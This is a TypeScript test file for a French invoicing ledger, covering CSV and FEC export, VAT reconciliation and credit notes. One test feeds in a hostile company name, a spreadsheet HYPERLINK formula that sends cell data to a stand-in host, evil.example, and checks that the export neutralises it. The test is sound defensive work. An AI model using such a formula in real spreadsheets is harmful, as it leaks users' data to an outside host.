import { orderIn } from '../orders/testing/order-test-kit.js';
import { creditNoteFor, invoiceDocumentFor } from './invoice-document-for.js';
import { csvAmount } from '../shared/csv.js';
import {
  DEFAULT_FEC_ACCOUNTS,
  FEC_COLUMNS,
  fecSalesJournal,
  invoiceListItem,
  ledgerCsvLines,
  ledgerPeriod,
  REISSUED_NOTE,
  ledgerTotals,
  reissueNotes,
  vatOnReceipts,
} from './invoice-ledger.js';
import { testSeller } from './testing/test-seller.js';

const seller = testSeller;
const order = orderIn('ready_for_delivery', {
  billing: 'yearly',
  form: { companyName: 'Boulangerie "Martin"; et fils', companyId: '51234987900001' },
}).state;
const deposit = invoiceDocumentFor({
  order,
  payment: {
    purpose: 'deposit',
    provider: 'sandbox',
    paymentId: 'cs_1',
    amountWithVat: order.price!.depositWithVat,
    paidAt: '2026-03-01T10:00:00Z',
  },
  number: 'F-2026-000001',
  issuedAt: '2026-03-01T10:00:01Z',
  seller,
});
const credit = creditNoteFor(deposit, {
  number: 'A-2026-000001',
  issuedAt: '2026-03-05T10:00:00Z',
  reason: 'Annulation',
  refundedAt: null,
});

describe("the accountant's ledger", () => {
  it('given an invoice and its credit note, then the totals net to zero, HT, VAT and TTC', () => {
    const items = [invoiceListItem(deposit, 'a'), invoiceListItem(credit, 'b')];
    expect(items.map((i) => i.kindLabel)).toEqual(["Facture d'acompte", 'Avoir']);
    expect(ledgerTotals(items)).toEqual({
      invoices: 1,
      creditNotes: 1,
      totalAmount: 0,
      vatAmount: 0,
      totalWithVat: 0,
    });
    expect(ledgerTotals([items[0]!])).toMatchObject({ totalWithVat: order.price!.depositWithVat });
  });

  it('writes one CSV line per VAT rate, amounts with a decimal comma, a credit note negative, quoted where needed', () => {
    const [line] = ledgerCsvLines(credit);
    const base = deposit.vatBreakdown[0]!;
    expect(line).toBe(
      [
        'A-2026-000001',
        'Avoir',
        '2026-03-05',
        String(order.orderNumber),
        '"Boulangerie ""Martin""; et fils"',
        '512349879',
        '20',
        csvAmount(-base.baseAmount),
        csvAmount(-base.vatAmount),
        csvAmount(-(base.baseAmount + base.vatAmount)),
        'F-2026-000001',
      ].join(';'),
    );
    expect(csvAmount(-123_456)).toBe('-1234,56');
    expect(csvAmount(5)).toBe('0,05');
  });

  it.each([
    [
      '=HYPERLINK("http://evil.example/?d="&A1;"Facture")',
      `"'=HYPERLINK(""http://evil.example/?d=""&A1;""Facture"")"`,
    ],
    ['+33 Martin', "'+33 Martin"],
    ['-Martin', "'-Martin"],
    ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
    ['\tMartin', `"'\tMartin"`],
    ['\rMartin', `"'\rMartin"`],
  ])('neutralises a company name a spreadsheet would run as a formula: %j', (companyName, cell) => {
    // The wizard refuses control characters in a name: the hostile one is set on the document itself,
    // as an order stored before that rule would carry it.
    const typed = orderIn('ready_for_delivery', { billing: 'yearly' }).state;
    const document = invoiceDocumentFor({
      order: typed,
      payment: {
        purpose: 'deposit',
        provider: 'sandbox',
        paymentId: 'cs_2',
        amountWithVat: typed.price!.depositWithVat,
        paidAt: '2026-03-01T10:00:00Z',
      },
      number: 'F-2026-000002',
      issuedAt: '2026-03-01T10:00:01Z',
      seller,
    });
    const [line] = ledgerCsvLines({ ...document, buyer: { ...document.buyer, name: companyName } });
    expect(line).toContain(`;${cell};`);
    // The amounts are ours: a credit note's minus sign stays a number.
    expect(
      ledgerCsvLines(
        creditNoteFor(document, {
          number: 'A-2026-000002',
          issuedAt: '2026-03-05T10:00:00Z',
          reason: 'x',
          refundedAt: null,
        }),
      )[0],
    ).toMatch(/;-\d+,\d{2};/);
  });

  it('reads a period of days, the current month by default, either way round', () => {
    expect(ledgerPeriod(undefined, undefined, '2026-11-27')).toEqual({
      from: '2026-11-01',
      to: '2026-11-27',
    });
    expect(ledgerPeriod('2026-12-31', '2026-01-01', '2026-11-27')).toEqual({
      from: '2026-01-01',
      to: '2026-12-31',
    });
  });
});

describe('the books of a yearly order with a deposit, then its balance, cancelled within the guarantee', () => {
  const balance = invoiceDocumentFor({
    order,
    payment: {
      purpose: 'balance',
      provider: 'offline',
      paymentId: 'VIR-1',
      amountWithVat: order.price!.remainingWithVat,
      paidAt: '2026-03-20T10:00:00Z',
      receivedOn: '2026-03-18',
      means: 'transfer',
    },
    number: 'F-2026-000002',
    issuedAt: '2026-03-20T10:00:01Z',
    seller,
    depositsInvoiced: [
      { number: deposit.number, issueDate: deposit.issueDate, amountWithVat: deposit.paidWithVat },
    ],
  });
  const creditOfDeposit = creditNoteFor(deposit, {
    number: 'A-2026-000012',
    issuedAt: '2026-03-25T10:00:00Z',
    reason: 'Annulation',
    refundedAt: '2026-03-25T10:00:00Z',
  });
  const creditOfBalance = creditNoteFor(balance, {
    number: 'A-2026-000013',
    issuedAt: '2026-03-25T10:00:00Z',
    reason: 'Annulation',
    refundedAt: null,
  });
  const paidWithVat = order.price!.depositWithVat + order.price!.remainingWithVat;

  it('lists the final invoice and its credit note at what each collected, never the whole sale twice', () => {
    expect(balance.totalWithVat).toBe(paidWithVat);
    const items = [deposit, balance, creditOfDeposit, creditOfBalance].map((doc) =>
      invoiceListItem(doc, 'x'),
    );
    expect(items.map((item) => item.totalWithVat)).toEqual([
      order.price!.depositWithVat,
      order.price!.remainingWithVat,
      order.price!.depositWithVat,
      order.price!.remainingWithVat,
    ]);
    expect(items[3]).toMatchObject({ depositsDeductedWithVat: order.price!.depositWithVat });
    for (const item of items) expect(item.totalAmount + item.vatAmount).toBe(item.totalWithVat);
    // Sold and collected once: the deposit's VAT is the deposit invoice's, the rest the final's.
    const sold = ledgerTotals(items.slice(0, 2));
    expect(sold).toMatchObject({ totalAmount: order.price!.totalAmount, totalWithVat: paidWithVat });
    expect(sold.vatAmount).toBe(balance.vatAmount);
    expect(ledgerTotals(items)).toMatchObject({ totalAmount: 0, vatAmount: 0, totalWithVat: 0 });
  });

  it('writes the final invoice in the register without its deposit', () => {
    const [line] = ledgerCsvLines(balance);
    expect(line).toContain(`;${csvAmount(order.price!.remainingWithVat)};`);
  });

  it('reports VAT on receipts by payment date, reconciled with the documents issued', () => {
    const documents = [deposit, balance, creditOfDeposit, creditOfBalance];
    const march = vatOnReceipts({ from: '2026-03-02', to: '2026-03-31' }, documents);
    // The deposit was received on 1 March, outside; the balance on the 18th (a transfer).
    expect(march.received.totalWithVat).toBe(order.price!.remainingWithVat);
    expect(march.paymentsWithVat).toBe(march.received.totalWithVat);
    expect(march.mismatches).toEqual([]);
    expect(march.refunded.totalWithVat).toBe(order.price!.depositWithVat);
    expect(march.rates).toHaveLength(1);
    expect(march.rates[0]!.net.vatAmount).toBe(march.received.vatAmount - march.refunded.vatAmount);
    // Invoiced less credited by issue date, and why the receipts differ, document by document.
    expect(march.invoicedWithVat).toBe(-order.price!.depositWithVat);
    expect(march.differences.map((d) => [d.number, d.reason])).toEqual([
      ['A-2026-000013', 'Avoir émis sur la période, pas encore remboursé'],
    ]);
    expect(march.invoicedWithVat + march.differences.reduce((sum, d) => sum + d.amountWithVat, 0)).toBe(
      march.net.totalWithVat,
    );
  });

  it('counts a payment received once, when a reactivation invoiced it again after a version 1 credit note', () => {
    // The balance credited on paper (A-…13, no refund), then invoiced again on the reactivation.
    const again = invoiceDocumentFor({
      order,
      payment: {
        purpose: 'balance',
        provider: 'offline',
        paymentId: 'VIR-1',
        amountWithVat: order.price!.remainingWithVat,
        paidAt: '2026-03-20T10:00:00Z',
        receivedOn: '2026-03-18',
        means: 'transfer',
      },
      number: 'F-2026-000003',
      issuedAt: '2026-03-28T10:00:01Z',
      seller,
      depositsInvoiced: [
        { number: deposit.number, issueDate: deposit.issueDate, amountWithVat: deposit.paidWithVat },
      ],
    });
    const march = vatOnReceipts({ from: '2026-03-02', to: '2026-03-31' }, [
      deposit,
      balance,
      creditOfBalance,
      again,
    ]);
    expect(march.received.totalWithVat).toBe(order.price!.remainingWithVat);
    expect(march.paymentsWithVat).toBe(order.price!.remainingWithVat);
    expect(march.differences.map((d) => [d.number, d.reason])).toEqual([
      ['A-2026-000013', 'Avoir émis sur la période, pas encore remboursé'],
      ['F-2026-000003', 'Paiement déjà encaissé, facturé à nouveau après la réactivation de la commande'],
    ]);
    expect(march.invoicedWithVat + march.differences.reduce((sum, d) => sum + d.amountWithVat, 0)).toBe(
      march.net.totalWithVat,
    );
  });

  it('journals each document as a balanced FEC entry: deposits through 4191, sales 706, VAT 44571, clients 411', () => {
    const rows = fecSalesJournal([deposit, balance, creditOfDeposit, creditOfBalance], DEFAULT_FEC_ACCOUNTS);
    expect(cellsOf(rows[0]!)).toEqual([...FEC_COLUMNS]);
    const lines = rows.slice(1).map(cellsOf);
    expect(lines.every((cells) => cells.length === 18)).toBe(true);
    const cents = (text: string) => Math.round(Number(text.replace(',', '.')) * 100);
    for (const entry of ['1', '2', '3', '4']) {
      const of = lines.filter((cells) => cells[2] === entry);
      expect(of.reduce((sum, c) => sum + cents(c[11]!), 0)).toBe(
        of.reduce((sum, c) => sum + cents(c[12]!), 0),
      );
    }
    const balanceOf = (account: string) =>
      lines.filter((c) => c[4] === account).reduce((sum, c) => sum + cents(c[12]!) - cents(c[11]!), 0);
    // Over the whole story every account comes back to zero, and the sale alone books 706 once.
    expect(balanceOf('706')).toBe(0);
    expect(balanceOf('4191')).toBe(0);
    expect(balanceOf('44571')).toBe(0);
    expect(balanceOf('411')).toBe(0);
    const sale = fecSalesJournal([deposit, balance], DEFAULT_FEC_ACCOUNTS).slice(1).map(cellsOf);
    const credited = (account: string) =>
      sale.filter((c) => c[4] === account).reduce((sum, c) => sum + cents(c[12]!) - cents(c[11]!), 0);
    expect(credited('706')).toBe(order.price!.totalAmount);
    expect(credited('44571')).toBe(balance.vatAmount);
    expect(credited('4191')).toBe(0);
    expect(-credited('411')).toBe(paidWithVat);
    expect(sale[0]).toEqual([
      'VE',
      'Journal des ventes',
      '1',
      '20260301',
      '411',
      'Clients',
      `C${order.orderNumber}`,
      'Boulangerie "Martin"; et fils',
      'F-2026-000001',
      '20260301',
      `Facture d'acompte F-2026-000001 - commande n° ${order.orderNumber}`,
      csvAmount(order.price!.depositWithVat),
      '0,00',
      '',
      '',
      '20260301',
      '',
      '',
    ]);
  });
});

/** The cells of a CSV line as a spreadsheet reads them (quoted cells unquoted). */
function cellsOf(row: string): string[] {
  const cells = [...`${row};`.matchAll(/("(?:[^"]|"")*"|[^;]*);/g)].map(([, cell]) => cell!);
  return cells.map((cell) => (cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell));
}

describe("the notes of an order's documents", () => {
  it('says an invoice of a payment an earlier invoice acknowledged was issued again by a reactivation', () => {
    const again = { ...deposit, number: 'F-2026-000002' };
    const other = {
      ...deposit,
      number: 'F-2026-000003',
      payment: { ...deposit.payment!, paymentId: 'pay_other' },
    };
    const notes = reissueNotes([deposit, credit, again, other]);
    expect([...notes]).toEqual([
      ['F-2026-000002', 'Facture réémise suite à la réactivation de votre commande'],
    ]);
    expect(invoiceListItem(again, 'x', notes.get(again.number)).note).toBe(REISSUED_NOTE);
    expect(invoiceListItem(deposit, 'x').note).toBeNull();
  });
});
